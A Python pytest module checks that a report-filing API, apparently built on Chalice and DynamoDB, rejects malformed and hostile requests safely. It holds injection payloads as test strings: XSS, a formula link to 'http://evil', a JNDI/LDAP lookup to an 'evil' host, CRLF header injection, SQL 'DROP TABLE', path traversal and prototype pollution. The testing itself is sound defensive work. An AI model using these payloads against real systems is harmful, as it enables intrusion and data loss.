"""Hostile requests in numbered cases (A: bodies, B: headers, methods and paths, D: ids, receipts).

All pass the gateway as it is deployed. A refusal is problem+json of the usual shape. It repeats
nothing of the input, and no row is written.
"""

import json
import os
import re
from collections.abc import Mapping
from datetime import timedelta
from typing import Any

import boto3
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from app import app
from chalicelib import wiring
from chalicelib.http import index
from chalicelib.http.openapi.operations import request_examples
from chalicelib.http.routes import Access, Operation
from chalicelib.kernel import times
from infra.local.gateway.gateway import Gateway
from infra.openapi import CONTRACT
from tests import cloud
from tests.client import Reply, call, new_key, report
from tests.conftest import examples
from tests.documented import assert_documented

pytestmark = pytest.mark.usefixtures("aws", "clean")

gateway = Gateway(app)
PROBLEM = Draft202012Validator(
    {
        "$ref": "#/components/schemas/Problem",
        "components": json.loads(CONTRACT.read_text(encoding="utf-8"))["components"],
    }
)
# This text is in every refused input. It must not be in any response.
CANARY = "canary-4471"
JSON = {"Content-Type": "application/json"}


def send(
    method: str, target: str, body: bytes = b"", headers: Mapping[str, str] | None = None
) -> Reply:
    response = gateway.response(method, target, list((headers or {}).items()), body, "203.0.113.77")
    reply = as_reply(response)
    if response.route != "-" and reply.status != 405:  # no operation of the document has it
        assert_documented(
            method, response.route, reply.status, reply.headers["content-type"], reply.text
        )
    return reply


def create(body: bytes, *, key: str | None = None, **headers: str) -> Reply:
    sent = {name.replace("_", "-"): value for name, value in headers.items()}
    return send("POST", "/v1/reports", body, JSON | {"Idempotency-Key": key or new_key()} | sent)


def create_json(*, key: str | None = None, **more: Any) -> Reply:
    return create(json.dumps(report(**more)).encode("utf-8", "surrogatepass"), key=key)


def filed(**more: Any) -> Any:
    return create_json(**more).expect(201)


def as_reporter(receipt: str) -> dict[str, str]:
    return {"Authorization": f"Receipt {receipt}"}


def assert_refused(reply: Reply, status: int) -> None:
    """Check the shape and the headers of a refusal, and that it has nothing of the input."""
    assert reply.status == status, reply.text
    assert reply.headers["content-type"] == "application/problem+json"
    assert reply.headers["cache-control"] == "no-store"
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert reply.headers["x-request-id"] == reply.json["request_id"]
    assert [error.message for error in PROBLEM.iter_errors(reply.json)] == []
    assert reply.json["status"] == status
    assert CANARY not in reply.text + str(reply.headers)
    assert not re.search(r"Traceback|pydantic|File \"", reply.text)


def count_rows() -> int:
    dynamodb = boto3.client("dynamodb")
    return sum(
        dynamodb.scan(TableName=table, Select="COUNT")["Count"]
        for name, table in os.environ.items()
        if name.endswith("_TABLE")
    )


def raw(**members: str) -> bytes:
    """Return a body with these members, which are given as JSON text."""
    whole = {"category": '"other"', "text": f'"{CANARY}"'} | members
    return ("{" + ",".join(f'"{name}":{value}' for name, value in whole.items()) + "}").encode()


UNREADABLE = {
    "1 nothing": b"",
    "4 something after the end": raw() + b"x",
    "5 nested 100,000 deep": b"[" * 100_000,
    "5 nested 100,000 deep in a member": raw(details="[" * 100_000 + "]" * 100_000),
    "6 an integer of 5,000 digits": raw(details='{"plate":' + "9" * 5000 + "}"),
    "7 NaN": raw(location='{"lat":NaN,"lon":1}'),
    "7 -Infinity": raw(location='{"lat":-Infinity,"lon":1}'),
    "9 a name twice": b'{"category":"other","text":"a","text":"b"}',
    "9 a name twice, deeper": raw(location='{"lat":1,"lon":1,"lat":2}'),
    "9 a name twice, once escaped": b'{"category":"other","text":"a","te\\u0078t":"b"}',
    "10 a byte order mark": b"\xef\xbb\xbf" + raw(),
    "11 not UTF-8": b'{"category":"other","text":"\xff\xfe"}',
    "11 a surrogate in UTF-8": b'{"category":"other","text":"\xed\xa0\x80"}',
    "13 a lone surrogate": b'{"category":"other","text":"\\ud800"}',
    "13 a lone surrogate in the details": raw(details='{"plate":"\\ud800"}'),
    "13 a lone surrogate in a name": b'{"category":"other","text":"a","\\udc00":1}',
}


@pytest.mark.parametrize("body", UNREADABLE.values(), ids=UNREADABLE.keys())
def test_a_body_that_cannot_be_read_is_400(body: bytes) -> None:
    assert_refused(create(body), 400)
    assert count_rows() == 0


MEDIUM = {"content_type": "image/jpeg", "size": 1000}
# By case: the members that replace those of a valid report, and the field that must be named.
INVALID: dict[str, tuple[dict[str, Any], str]] = {
    "14 only NUL": ({"text": "\0"}, "text"),
    "15 nothing in it": ({"text": ""}, "text"),
    "16 only a bidi override": ({"text": "\u202e"}, "text"),
    "17 4,001 characters": ({"text": "a" * 4001}, "text"),
    "21 a status": ({"status": "CLOSED"}, "status"),
    "22 an assignee": ({"assignee": CANARY}, "assignee"),
    "22 a version": ({"version": 9}, "version"),
    "22 a key of the table": ({"pk": CANARY}, "pk"),
    "22 a time to live": ({"ttl": 1}, "ttl"),
    "22 a receipt's hash": ({"receipt_hash": CANARY}, "receipt_hash"),
    "22 a source, which is officers' to say": ({"source": "desk"}, "source"),
    "23 true for an integer": ({"media": [MEDIUM | {"size": True}]}, "media.0.size"),
    "24 a string for an integer": ({"media": [MEDIUM | {"size": "5"}]}, "media.0.size"),
    "24 a string for a number": ({"location": {"lat": "39.9", "lon": 116}}, "location.lat"),
    "24 a number for a text": ({"text": 5}, "text"),
    "24 a list for a text": ({"text": [CANARY]}, "text"),
    "25 a space after the category": ({"category": "child_abduction "}, "category"),
    "25 a category in capitals": ({"category": "CHILD_ABDUCTION"}, "category"),
    "25 a Cyrillic letter in it": ({"category": "child_\u0430bduction"}, "category"),
    "25 no letter in it": ({"category": ""}, "category"),
    "25 null": ({"category": None}, "category"),
    "26 lat 90.0001": ({"location": {"lat": 90.0001, "lon": 0}}, "location.lat"),
    "26 lat alone": ({"location": {"lat": 1}}, "location.lon"),
    "26 an unknown datum": ({"location": {"lat": 1, "lon": 1, "datum": CANARY}}, "location.datum"),
    "26 less than no accuracy": (
        {"location": {"lat": 1, "lon": 1, "accuracy_m": -1}},
        "location.accuracy_m",
    ),
    "27 the year 9999": ({"occurred_at": "9999-12-31T23:59:59Z"}, "occurred_at"),
    "27 before 1970": ({"occurred_at": "1969-12-31T23:59:59Z"}, "occurred_at"),
    "27 30 February": ({"occurred_at": "2026-02-30T00:00:00Z"}, "occurred_at"),
    "33 __proto__": ({"__proto__": {"admin": True}}, "__proto__"),
    "33 __class__": ({"__class__": CANARY}, "__class__"),
    "33 constructor in the details": ({"details": {"constructor": CANARY}}, "details.constructor"),
    "34 six media": ({"media": [MEDIUM] * 6}, "media"),
    "35 no bytes": ({"media": [MEDIUM | {"size": 0}]}, "media.0.size"),
    "35 less than no bytes": ({"media": [MEDIUM | {"size": -1}]}, "media.0.size"),
    "35 2 to the 63 bytes": ({"media": [MEDIUM | {"size": 2**63}]}, "media.0.size"),
    "35 a picture over 25 MiB": ({"media": [MEDIUM | {"size": 25 * 2**20 + 1}]}, "media.0.size"),
    "36 SVG": ({"media": [MEDIUM | {"content_type": "image/svg+xml"}]}, "media.0.content_type"),
    "36 HTML": ({"media": [MEDIUM | {"content_type": "text/html"}]}, "media.0.content_type"),
    "36 a type in capitals with a parameter": (
        {"media": [MEDIUM | {"content_type": "image/JPEG; a=b"}]},
        "media.0.content_type",
    ),
    "36 a sha256 of 63 digits": ({"media": [MEDIUM | {"sha256": "a" * 63}]}, "media.0.sha256"),
    "36 a sha256 and a newline": (
        {"media": [MEDIUM | {"sha256": "a" * 64 + "\n"}]},
        "media.0.sha256",
    ),
    "36 a sha256 in Arabic digits": (
        {"media": [MEDIUM | {"sha256": "\u0663" * 64}]},
        "media.0.sha256",
    ),
    "36 a sha256 of what goes up in parts": (
        {"media": [{"content_type": "video/mp4", "size": 200 * 2**20, "sha256": "a" * 64}]},
        "media.0.sha256",
    ),
    "37 a name for the file": (
        {"media": [MEDIUM | {"filename": f"../../{CANARY}"}]},
        "media.0.filename",
    ),
    # The API has no such field, so it causes 422 like any other unknown field.
    "38 a field that only a robot fills in": ({"website": CANARY}, "website"),
    "39 a contact's name over 100": ({"contact": {"name": "n" * 101}}, "contact.name"),
    "39 a contact over 1 KB": (
        {"contact": {"email": f"{CANARY}@{'e' * 1024}.cn"}},
        "contact.email",
    ),
    "39 a phone of words": ({"contact": {"phone": f"{CANARY} call me"}}, "contact.phone"),
    "39 an address without @": ({"contact": {"email": CANARY}}, "contact.email"),
    "39 a contact without anything": ({"contact": {}}, "contact"),
    "39 a contact that is a list": ({"contact": [CANARY]}, "contact"),
    "a bulletin that there is not": ({"bulletin_id": CANARY}, "bulletin_id"),
}


@pytest.mark.parametrize(("members", "field"), INVALID.values(), ids=INVALID.keys())
def test_what_is_readable_but_wrong_is_422_and_names_the_field(
    members: dict[str, Any], field: str
) -> None:
    reply = create_json(**members)

    assert_refused(reply, 422)
    assert field in reply.wrong_fields
    assert count_rows() == 0


NO_REPORT = {
    "2 null": b"null",
    "3 a list": b"[]",
    "3 a string": b'"text"',
    "3 a number": b"5",
    "3 true": b"true",
    "8 lat 1e999": raw(location='{"lat":1e999,"lon":1}'),
    "8 lon -1e999": raw(location='{"lat":1,"lon":-1e999}'),
    "8 1e999 in the details": raw(details='{"plate":1e999}'),
}


@pytest.mark.parametrize("body", NO_REPORT.values(), ids=NO_REPORT.keys())
def test_what_is_no_object_or_beyond_all_numbers_is_422(body: bytes) -> None:
    assert_refused(create(body), 422)
    assert count_rows() == 0


def test_27_a_time_up_to_a_day_ahead_is_flagged_and_a_later_one_refused() -> None:
    now = wiring.clock.now()
    assert_refused(create_json(occurred_at=times.render(now + timedelta(hours=25))), 422)
    assert count_rows() == 0
    assert filed(occurred_at=times.render(now + timedelta(hours=23)))["flags"] == ["clock_skew"]


def test_a_made_up_field_name_is_not_repeated_unless_it_is_a_plain_word() -> None:
    reply = create_json(**{f"<script>{CANARY}</script>": "1"})
    assert_refused(reply, 422)


@pytest.mark.parametrize(
    ("size", "status"),
    [(256 * 1024, 422), (257 * 1024, 413), (10 * 2**20 + 1, 413)],
    ids=["256 KiB", "19 257 KiB", "20 10 MiB"],
)
def test_a_body_may_have_256_kib(size: int, status: int) -> None:
    if size > 10 * 2**20:
        assert_refused(as_reply(gateway.refuse("REQUEST_TOO_LARGE")), status)
        return
    body = raw(text='"' + "a" * (size - len(raw(text='""'))) + '"')
    assert len(body) == size
    assert_refused(create(body), status)
    assert count_rows() == 0


VERBATIM = {
    "18 4,000 emoji": "\U0001f692" * 4000,
    "28 HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "29 a formula": '=HYPERLINK("http://evil") @SUM(1)',
    "30 a look-up": "${jndi:ldap://evil/a} {{7*7}} %s%n {0}",
    "31 line breaks": "a\r\nSet-Cookie: a=b\n\nb",
    "32 a query": '{"S":"x"} #pk :v attribute_exists(pk)',
    "quotes": "'\"; DROP TABLE reports; --",
}


@pytest.mark.parametrize("text", VERBATIM.values(), ids=VERBATIM.keys())
def test_text_is_kept_as_it_is_and_comes_back_only_as_json(text: str) -> None:
    created = filed(text=text)
    view = send("GET", "/v1/reports/mine", headers=as_reporter(created["receipt"]))

    assert view.json["text"] == text
    assert view.headers["content-type"] == "application/json"
    assert view.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("removed", ["\0", "\u202e", "\u2066", "\ufdd0"], ids=ascii)
def test_14_16_what_hides_or_alters_a_text_is_removed(removed: str) -> None:
    created = filed(text=f"{removed}photo{removed}gpj.exe")
    view = send("GET", "/v1/reports/mine", headers=as_reporter(created["receipt"]))
    assert view.json["text"] == "photogpj.exe"


def test_32_details_that_look_like_a_query_are_not_interpreted() -> None:
    assert_refused(create_json(details={"#pk": {"S": CANARY}, ":v": CANARY}), 422)
    assert count_rows() == 0


def test_40_the_two_normal_forms_of_a_text_are_the_same_report() -> None:
    key = new_key()
    composed, decomposed = (
        create_json(key=key, text=text) for text in ("caf\u00e9 \uac00", "cafe\u0301 \u1100\u1161")
    )
    assert (composed.status, decomposed.status) == (201, 200)
    assert composed.json["id"] == decomposed.json["id"]


MESSAGES: dict[str, tuple[bytes, int]] = {
    "9 a name twice": (b'{"text":"a","text":"b"}', 400),
    "13 a lone surrogate": (b'{"text":"\\ud800"}', 400),
    "14 only NUL": (b'{"text":"\\u0000"}', 422),
    "16 only a bidi override": (b'{"text":"\\u202e"}', 422),
    "21 a sender": (b'{"text":"a","sender":"officer"}', 422),
    "no text": (b"{}", 422),
}


@pytest.mark.parametrize(("body", "status"), MESSAGES.values(), ids=MESSAGES.keys())
def test_a_message_is_read_as_strictly_as_a_report(body: bytes, status: int) -> None:
    created = filed()
    before = count_rows()
    reply = send(
        "POST",
        f"/v1/reports/{created['id']}/messages",
        body,
        JSON | as_reporter(created["receipt"]),
    )

    assert_refused(reply, status)
    assert count_rows() == before


PARTS: dict[str, tuple[bytes, int]] = {
    "no list": (b"{}", 422),
    "nine numbers": (b'{"numbers":[1,2,3,4,5,6,7,8,9]}', 422),
    "23 true for a number": (b'{"numbers":[true]}', 422),
    "24 a string for a number": (b'{"numbers":["1"]}', 422),
    "6 a number of 5,000 digits": (b'{"numbers":[' + b"9" * 5000 + b"]}", 400),
}


@pytest.mark.parametrize(("body", "status"), PARTS.values(), ids=PARTS.keys())
def test_numbers_of_parts_are_whole_numbers_that_the_upload_has(body: bytes, status: int) -> None:
    created = filed(media=[{"content_type": "video/mp4", "size": 17 * 2**20}])
    address = f"/v1/reports/{created['id']}/media/{created['uploads'][0]['media_id']}/parts"

    assert_refused(send("POST", address, body, JSON | as_reporter(created["receipt"])), status)


KEYS = {
    "41 none": None,
    "41 nothing in it": "",
    "42 not random": "6ba7b810-9dad-11d1-80b4-00c04fd430c8",
    "42 too short": "12345",
    "42 10 KB": "a" * 10_000,
    "42 not ASCII": "f47ac10b-58cc-4372-a567-0e02b2c3d47\u0664",
    "42 in braces": "{f47ac10b-58cc-4372-a567-0e02b2c3d479}",
    "42 without dashes": "f47ac10b58cc4372a5670e02b2c3d479",
    "42 two of them": "f47ac10b-58cc-4372-a567-0e02b2c3d479, f47ac10b-58cc-4372-a567-0e02b2c3d478",
}


@pytest.mark.parametrize("key", KEYS.values(), ids=KEYS.keys())
def test_a_key_that_is_not_a_random_uuid_is_400(key: str | None) -> None:
    headers = JSON | ({"Idempotency-Key": key} if key is not None else {})
    assert_refused(
        send("POST", "/v1/reports", json.dumps(report(text=CANARY)).encode(), headers), 400
    )
    assert count_rows() == 0


TYPES = {
    "44 text/html": {"Content-Type": "text/html"},
    "44 a form": {"Content-Type": "application/x-www-form-urlencoded"},
    "44 a type that begins like JSON": {"Content-Type": "application/jsonp"},
    "45 none": {},
    "46 UTF-16": {"Content-Type": "application/json;charset=utf-16"},
    "46 two sets of characters": {
        "Content-Type": "application/json; charset=utf-8; charset=utf-16"
    },
    "47 gzip": {"Content-Type": "application/json", "Content-Encoding": "gzip"},
    "47 gzip twice": {"Content-Type": "application/json", "Content-Encoding": "gzip, gzip"},
}


@pytest.mark.parametrize("headers", TYPES.values(), ids=TYPES.keys())
def test_a_body_that_is_not_plain_json_is_415(headers: dict[str, str]) -> None:
    body = json.dumps(report(text=CANARY)).encode()
    assert_refused(send("POST", "/v1/reports", body, headers | {"Idempotency-Key": new_key()}), 415)
    assert count_rows() == 0


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", ""])
def test_the_type_of_a_body_that_is_not_read_does_not_matter(content_type: str) -> None:
    typed = {"Content-Type": content_type}
    assert call("GET", "/v1/catalogue", headers=typed).status == 200
    refused = call("GET", "/v1/officer/reports", headers=typed)
    assert (refused.status, refused.headers["content-type"]) == (401, "application/problem+json")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_12_json_in_another_encoding_is_415(encoding: str) -> None:
    assert_refused(create(raw().decode().encode(encoding)), 415)
    assert count_rows() == 0


@pytest.mark.parametrize(
    "kind",
    ["application/json", "Application/JSON; Charset=UTF-8", 'application/json;charset="utf-8"'],
)
def test_json_in_utf_8_may_be_spelt_in_its_ways(kind: str) -> None:
    headers = {"Content-Type": kind, "Idempotency-Key": new_key()}
    assert send("POST", "/v1/reports", json.dumps(report()).encode(), headers).status == 201


def test_48_where_a_request_came_from_is_kept_nowhere() -> None:
    claims = dict.fromkeys(("X-Forwarded-For", "User-Agent", "Via", "X-Request-Id"), CANARY)
    created = create(json.dumps(report()).encode(), **claims, Forwarded=f"for={CANARY}")

    assert created.status == 201
    assert CANARY not in str(created)
    dynamodb = boto3.client("dynamodb")
    tables = [table for name, table in os.environ.items() if name.endswith("_TABLE")]
    kept = str([dynamodb.scan(TableName=table)["Items"] for table in tables])
    assert CANARY not in kept
    assert "203.0.113.77" not in kept


@pytest.mark.parametrize("header", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
def test_49_a_method_in_a_header_is_ignored(header: str) -> None:
    receipt = filed()["receipt"]
    for more in ({header: "DELETE"}, {}):
        view = send("GET", "/v1/reports/mine", headers=as_reporter(receipt) | more)
        assert view.json["status"] == "received"


@pytest.mark.parametrize("method", ["TRACE", "PUT", "CONNECT", "PROPFIND", "FOO", "delete"])
def test_51_a_method_that_a_route_does_not_take_is_refused(method: str) -> None:
    # A method that the gateway does not know is 404, as an unknown path is.
    assert_refused(
        send(
            method,
            "/v1/reports",
            json.dumps(report(text=CANARY)).encode(),
            JSON | {"Idempotency-Key": new_key()},
        ),
        405 if method == "PUT" else 404,
    )
    assert count_rows() == 0


IDS = {
    "54 out of the folder": "%2e%2e%2fofficer",
    "54 NUL": "%00",
    "54 encoded twice": "%252e%252e%252f",
    "54 a dot at the end": "mine.",
    "54 a slash in it": "a%2Fb",
    "54 not UTF-8": "%ff%fe",
    "54 a hundred percent": "100%25",
    "54 a percent alone": "%",
    "89 too short": "A",
    "89 too long": "A" * 5000,
    "89 another key of the table": "X%23CONTACT",
    "89 a line break": "%0d%0aSet-Cookie:a=b",
    "89 of other letters": "%E5%85%B3",
}
OF_A_REPORT = [each for each in index.operations() if "{report_id}" in each.path]
BODIES = request_examples()


def target_of(operation: Operation, report_id: str) -> str:
    path = operation.path.replace("{report_id}", report_id)
    return re.sub(r"\{\w+\}", "0" * 16, path)


def example_of(operation: Operation) -> bytes:
    body = BODIES.get(operation.name)
    return b"" if body is None else json.dumps(body).encode()


@pytest.mark.parametrize("report_id", IDS.values(), ids=IDS.keys())
def test_an_id_that_cannot_be_one_is_404(report_id: str) -> None:
    cloud.officer("wang")
    as_its_reporter = JSON | as_reporter(filed()["receipt"])
    for operation in OF_A_REPORT:
        target = target_of(operation, report_id)
        if operation.access is Access.RECEIPT:
            reply = send(operation.method, target, example_of(operation), as_its_reporter)
            assert_refused(reply, 404)
        elif operation.method == "GET":
            assert_refused(call("GET", target, officer="wang"), 404)


@pytest.mark.parametrize(
    "target",
    [
        "/index.html",
        "//v1/health",
        "/v1/health/",
        "/V1/health",
        "/v1/%68ealth",
        "/v1/reports/mine/",
        "/.env",
        "/v1/../v1/health",
    ],
)
def test_54_a_path_is_known_as_it_is_written_or_not_at_all(target: str) -> None:
    assert_refused(send("GET", target), 404)


def test_55_a_range_is_ignored() -> None:
    ranges = "bytes=" + ",".join("0-0" for _ in range(1000))
    assert send("GET", "/v1/health", headers={"Range": ranges}).status == 200


@pytest.mark.parametrize("accept", ["text/html", "application/xml", "*/*;q=0", "application/json"])
def test_56_the_response_is_json_whatever_is_asked_for(accept: str) -> None:
    reply = send("GET", "/v1/health", headers={"Accept": accept})
    assert (reply.status, reply.headers["content-type"], reply.json["status"]) == (
        200,
        "application/json",
        "ok",
    )


def test_an_accept_language_of_10_kb_is_only_a_language() -> None:
    assert_refused(
        send("GET", "/v1/reports/mine", headers={"Accept-Language": f"{CANARY}," * 900}), 401
    )


CREDENTIALS = {
    "none": None,
    "nothing in it": "",
    "the word alone": "Receipt",
    "the word and spaces": "Receipt   ",
    "another scheme": f"Basic {CANARY}",
    "a token": f"Bearer {CANARY}",
}


@pytest.mark.parametrize(
    "operation",
    [each for each in OF_A_REPORT if each.access is Access.RECEIPT],
    ids=lambda operation: operation.name,
)
def test_a_route_of_a_report_opens_by_its_receipt_alone_whatever_is_sent(
    operation: Operation,
) -> None:
    created, other = filed(), filed(text="another")
    target = target_of(operation, created["id"])
    for body in (example_of(operation), b'{"text":5}'):
        for authorization in CREDENTIALS.values():
            headers = {} if authorization is None else {"Authorization": authorization}
            reply = send(operation.method, target, body, JSON | headers)
            assert_refused(reply, 401)
            assert reply.headers["www-authenticate"]
        nonsense = send(operation.method, target, body, JSON | as_reporter("nonsense"))
        assert_refused(nonsense, 404)
    for receipt in (other["receipt"], "0" * 26):
        headers = JSON | as_reporter(receipt)
        assert_refused(send(operation.method, target, example_of(operation), headers), 404)


def test_94_whatever_is_wrong_about_id_or_receipt_the_response_is_the_same() -> None:
    mine, other = filed(), filed(text="another")
    flipped = ("0" if mine["receipt"][0] != "0" else "1") + mine["receipt"][1:]
    attempts = {
        "no such report": (f"/v1/reports/{'Z' * 26}", mine["receipt"]),
        "another's report": (f"/v1/reports/{other['id']}", mine["receipt"]),
        "another's receipt": (f"/v1/reports/{mine['id']}", other["receipt"]),
        "one digit wrong": (f"/v1/reports/{mine['id']}", flipped),
        "the id as receipt": (f"/v1/reports/{mine['id']}", mine["id"]),
        "the reference as receipt": (f"/v1/reports/{mine['id']}", mine["reference"]),
        "10 KB": (f"/v1/reports/{mine['id']}", "A" * 10_000),
        "a full-width digit": (f"/v1/reports/{mine['id']}", "\uff10" + mine["receipt"][1:]),
        "a U": (f"/v1/reports/{mine['id']}", "U" + mine["receipt"][1:]),
    }
    seen = set()
    for target, receipt in attempts.values():
        reply = send("GET", target, headers=as_reporter(receipt))
        assert_refused(reply, 404)
        seen.add(json.dumps(reply.json | {"request_id": ""}))
    assert len(seen) == 1


def test_94_a_receipt_is_read_as_people_write_it() -> None:
    created = filed()
    receipt = created["receipt"]
    spelt = receipt.lower().replace("0", "o").replace("1", "l")
    for written in (
        receipt.lower(),
        "-".join(receipt[i : i + 4] for i in range(0, 26, 4)),
        f" {receipt[:13]} {receipt[13:]} ",
        spelt,
    ):
        for scheme in ("Receipt", "receipt", "RECEIPT"):
            reply = send(
                "GET",
                f"/v1/reports/{created['id']}",
                headers={"Authorization": f"{scheme} {written}"},
            )
            assert reply.status == 200, written


VERSIONS: dict[str, tuple[str | None, int]] = {
    "none": (None, 428),
    "nothing in it": ("", 428),
    "any": ("*", 400),
    "a weak one": ('W/"1"', 400),
    "without quotes": ("1", 400),
    "a tag without quotes": ("0" * 20, 400),
    "nobody's tag": (f'"{"0" * 20}"', 412),
    "a stale one": ('"0"', 412),
    "one to come": ('"2"', 412),
    "two of them": ('"1", "2"', 400),
    "other digits": ('"\u0661"', 400),
    "a huge one": (f'"{"9" * 5000}"', 400),
    "words": (f'"{CANARY}"', 400),
}


@pytest.mark.parametrize(
    ("version", "status"), VERSIONS.values(), ids=[f"52 {name}" for name in VERSIONS]
)
def test_a_change_without_the_present_version_changes_nothing(
    version: str | None, status: int
) -> None:
    cloud.officer("wang")
    path = f"/v1/officer/reports/{filed()['id']}"
    headers = {} if version is None else {"If-Match": version}

    change = {"status": "acknowledged"}
    assert_refused(call("PATCH", path, change, officer="wang", headers=headers), status)
    opened = call("GET", path, officer="wang").json
    assert (opened["status"], opened["version"]) == ("new", 1)


CHANGES: dict[str, tuple[Any, str]] = {
    "3 a list": ([], "body"),
    "21 a status in capitals": ({"status": "CLOSED"}, "status"),
    "22 a version": ({"version": 9}, "version"),
    "22 a key of the table": ({"pk": CANARY}, "pk"),
    "22 an id": ({"id": CANARY}, "id"),
    "22 a receipt": ({"receipt": CANARY}, "receipt"),
    "24 a number": ({"urgency": 3}, "urgency"),
    "25 a category that there is not": ({"category": CANARY}, "category"),
    "25 no category": ({"category": None}, "category"),
}


@pytest.mark.parametrize(("change", "field"), CHANGES.values(), ids=CHANGES.keys())
def test_a_change_is_read_as_strictly_as_a_report(change: Any, field: str) -> None:
    cloud.officer("wang")
    path = f"/v1/officer/reports/{filed()['id']}"
    reply = call("PATCH", path, change, officer="wang", headers={"If-Match": '"1"'})

    assert_refused(reply, 422)
    assert field in reply.wrong_fields
    assert call("GET", path, officer="wang").json["version"] == 1


@settings(
    max_examples=examples(100),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(st.binary(max_size=200), st.integers(0, 200))
@example(b"\0", 0)
def test_bytes_at_random_in_a_good_body_are_never_our_fault(noise: bytes, at: int) -> None:
    good = json.dumps(report()).encode()
    # 415: a body that begins with NULs looks like UTF-16 or UTF-32.
    assert create(good[:at] + noise + good[at:]).status in (201, 400, 413, 415, 422)


def as_reply(response: Any) -> Reply:
    headers = {name.lower(): value for name, value in response.headers}
    return Reply(response.status, headers, response.body.decode())
